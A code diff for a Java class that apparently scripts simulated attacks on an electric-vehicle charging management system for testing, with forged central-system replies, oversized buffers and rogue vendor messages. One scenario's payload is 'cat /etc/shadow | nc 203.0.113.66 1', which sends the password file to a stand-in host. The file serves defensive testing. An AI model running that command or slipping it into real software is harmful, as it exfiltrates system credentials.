@@ -36,7 +36,7 @@ final class CsmsAttacks {
                 new Attack("A51", "three kilobytes into a buffer of one", s -> s.command("DataTransfer",
                         Json.object("vendorId", s.victim().habits().maker(), "messageId", "getpreq",
                                 "data", Base64.getEncoder().encodeToString(new byte[3_000])))),
-                new Attack("A51", "the station talks of something strange", s -> s.every(60, 3, i -> s.says("DataTransfer",
+                new Attack("A51", "a vendor that nobody has", s -> s.every(60, 3, i -> s.command("DataTransfer",
                         Json.object("vendorId", "com.evil.agent", "messageId", "beacon", "data", "id=" + i)))),
                 new Attack("A51", "a message that this maker does not have", s -> s.command("DataTransfer",
                         Json.object("vendorId", s.victim().habits().maker(), "messageId", "exec", "data", "cat /etc/shadow | nc 203.0.113.66 1"))));
@@ -45,9 +45,10 @@ final class CsmsAttacks {
     /** The CSMS answers so from now on, and the victim asks. */
     private static Attack lie(String type, String name, String action, UnaryOperator<ObjectNode> change, ObjectNode question) {
         return new Attack(type, name, s -> {
-            s.estate().central().lies(action, change);
+            s.estate().central().knows("0401");
+            lie(s, action, change);
             s.every(30, 6, i -> s.blurts(action, question));
-            s.later(300, () -> s.estate().central().lies(action, UnaryOperator.identity()));
+            s.later(300, () -> lie(s, action, UnaryOperator.identity()));
         });
     }
 
@@ -62,23 +63,28 @@ final class CsmsAttacks {
                 lie("A52", "a heartbeat in 68 years", "BootNotification", a -> a.put("interval", Integer.MAX_VALUE), boot),
                 lie("A53", "never accepted", "BootNotification", a -> a.put("status", "Rejected"), boot),
                 new Attack("A53", "pending for ever", s -> {
-                    s.estate().central().lies("BootNotification", a -> a.put("status", "Pending"));
+                    lie(s, "BootNotification", a -> a.put("status", "Pending"));
                     s.every(60, 40, i -> s.blurts("BootNotification", boot));
-                    s.later(2_400, () -> s.estate().central().lies("BootNotification", UnaryOperator.identity()));
+                    s.later(2_400, () -> lie(s, "BootNotification", UnaryOperator.identity()));
                 }),
                 new Attack("A53", "every card is blocked", s -> {
-                    s.estate().central().lies("Authorize", a -> (ObjectNode) a.set("idTagInfo", Json.object("status", "Blocked")));
+                    s.fleet().forEach(station -> s.estate().central().lies(station.channel().station(), "Authorize",
+                            a -> (ObjectNode) a.set("idTagInfo", Json.object("status", "Blocked"))));
                     s.every(20, 40, i -> s.says(s.fleet().get(i % s.fleet().size()).channel(), "Authorize", Json.object("idTag", s.drivers().card())));
-                    s.later(900, () -> s.estate().central().lies("Authorize", UnaryOperator.identity()));
                 }),
                 lie("A53", "a negative number", "StartTransaction", a -> a.put("transactionId", -7), start),
                 lie("A53", "a number beyond every bound", "StartTransaction", a -> a.put("transactionId", 4_294_967_296L), start),
                 new Attack("A53", "the number of a charge that runs", s -> s.whileCharging(s.fleet().get(1), 40_000, () -> {
                     int taken = s.fleet().get(1).transaction(1);
-                    s.estate().central().lies("StartTransaction", a -> a.put("transactionId", taken));
+                    s.estate().central().knows("0401");
+                    lie(s, "StartTransaction", a -> a.put("transactionId", taken));
                     s.says("StartTransaction", start.deepCopy().put("meterStart", Math.round(s.victim().register(1))).put("timestamp", s.time()));
-                    s.later(60, () -> s.estate().central().lies("StartTransaction", UnaryOperator.identity()));
+                    s.later(60, () -> lie(s, "StartTransaction", UnaryOperator.identity()));
                 })));
+    }
+
+    private static void lie(Stage stage, String action, UnaryOperator<ObjectNode> change) {
+        stage.estate().central().lies(stage.victim().channel().station(), action, change);
     }
 
     private static ObjectNode hourLater(ObjectNode answer) {
